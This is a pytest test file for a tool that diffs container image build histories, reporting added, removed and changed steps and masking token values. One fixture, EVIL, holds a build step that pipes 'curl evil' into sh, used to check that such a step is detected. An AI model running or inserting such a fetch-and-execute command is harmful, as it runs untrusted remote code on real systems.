"""Which steps of a build came, went or read otherwise."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.diff import difference
from bot.diff.history import step_changes
from bot.manifests import read_configuration
from tests.diff.made import image

ADD = "/bin/sh -c #(nop) ADD file:1 in / "
CMD = '/bin/sh -c #(nop)  CMD ["bash"]'
EVIL = "RUN /bin/sh -c curl evil | sh # buildkit"

CASES = [
    ([ADD, CMD], [ADD, CMD], []),
    ([ADD, CMD], [ADD, CMD, EVIL], [("added", "", "RUN /bin/sh -c curl evil | sh")]),
    ([ADD, EVIL, CMD], [ADD, CMD], [("removed", "RUN /bin/sh -c curl evil | sh", "")]),
    (["ENV A=1", CMD], ["ENV A=2", CMD], [("changed", "ENV A=1", "ENV A=2")]),
    (["ENV A=1", "RUN x"], ["COPY a b", "RUN y"], [("added", "", "COPY a b"), ("changed", "RUN x", "RUN y"), ("removed", "ENV A=1", "")]),
    (["a", "b", "c", "d"], ["a", "x", "c", "y", "d"], [("added", "", "x"), ("removed", "b", ""), ("added", "", "y")]),
    (["/bin/sh -c make"], ["|1 A=b /bin/sh -c make"], [("changed", "/bin/sh -c make", "|1 A=b /bin/sh -c make")]),
    (["COPY . / # buildkit"], ["COPY . /"], []),
]  # fmt: skip


@pytest.mark.parametrize(("old", "new", "changes"), CASES)
def test_what_differs_is_told_in_its_order(old, new, changes):
    assert step_changes(old, new) == tuple(changes)


def test_where_an_image_tells_no_history_nothing_is_said():
    assert step_changes([], ["RUN x"]) is None
    assert step_changes(["RUN x"], ()) is None


def test_what_hides_in_a_step_is_not_told():
    ((change, old, new),) = step_changes(["ENV API_TOKEN=one"], ["ENV API_TOKEN=two"])
    assert (change, old, new) == ("changed", "ENV API_TOKEN=(hidden)", "ENV API_TOKEN=(hidden)")


def test_long_histories_are_compared_too():
    old = ["FROM", *(f"RUN {n}" for n in range(300)), "CMD"]
    new = ["FROM", *(f"RUN {n}" for n in range(1, 302)), "CMD"]
    found = step_changes(old, new)
    assert {each.change for each in found} == {"added", "changed"}
    assert len(found) == 301


STEPS = st.lists(st.sampled_from(["RUN a", "RUN b", "ENV a=1", "ENV a=2", "COPY x y"]), min_size=1)


@given(STEPS, STEPS)
def test_the_old_steps_without_what_went_are_the_new_ones_without_what_came(old, new):
    found = step_changes(old, new)
    for each in found:
        if each.old:
            old.remove(each.old)
        if each.new:
            new.remove(each.new)
    assert sorted(old) == sorted(new)


@given(STEPS)
def test_the_same_steps_do_not_differ(steps):
    assert step_changes(steps, steps) == ()


def test_the_whole_history_is_compared_also_what_made_no_layer():
    old, new = image("a", history=("FROM",)), image("b", history=("FROM", "LABEL x=y"))
    assert difference(old, new).steps == (("added", "", "LABEL x=y"),)


def history(*entries):
    import json

    body = {"rootfs": {"diff_ids": ["sha256:1"]}, "history": list(entries)}
    return read_configuration(json.dumps(body).encode())


def test_a_history_is_read_with_the_steps_that_made_no_layer():
    found = history({"created_by": "ADD x"}, {"created_by": "CMD y", "empty_layer": True}, {}, 7)
    assert found.history == ("ADD x", "CMD y")
    assert history({"created_by": "x"}).made_by == ("x",)


def test_a_history_without_end_is_none():
    assert history(*[{"created_by": "x"}] * 1001).history == ()
    assert len(history(*[{"created_by": "x"}] * 1000).history) == 1000
